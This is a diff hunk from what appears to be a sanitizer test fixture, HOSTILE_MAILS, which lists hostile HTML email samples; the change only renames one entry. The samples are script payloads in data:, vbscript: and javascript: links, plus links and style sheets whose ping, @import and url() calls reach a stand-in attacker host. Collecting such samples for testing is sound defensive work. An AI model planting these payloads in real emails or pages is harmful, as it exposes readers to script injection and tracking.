@@ -31,7 +31,7 @@ export const HOSTILE_MAILS: Record<string, string> = {
   "a link to a page in the address": `<p>Hello <a href="data:text/html,<script>alert(1)</script>">there</a></p>`,
   "a link to VBScript": `<p>Hello <a href="vbscript:msgbox(1)">there</a></p>`,
   "a link to a blob": `<p>Hello <a href="blob:${EVIL}/1">there</a></p>`,
-  "a link that tells on the reader": `<p>Hello <a href="${EVIL}/a" ping="${EVIL}/ping" target=_self rel=opener download>there</a></p>`,
+  "a link that reports the reader": `<p>Hello <a href="${EVIL}/a" ping="${EVIL}/ping" target=_self rel=opener download>there</a></p>`,
   "an area that runs": `<p>Hello</p><map name=m><area href="javascript:alert(1)" coords="0,0,9,9"></map><img usemap="#m" src=x>`,
   "a style sheet": `<style>@import "${EVIL}/a.css"; body{background:url(${EVIL}/b)}</style><p>Hello</p>`,
   "a style sheet from elsewhere": `<link rel=stylesheet href="${EVIL}/a.css"><p>Hello</p>`,
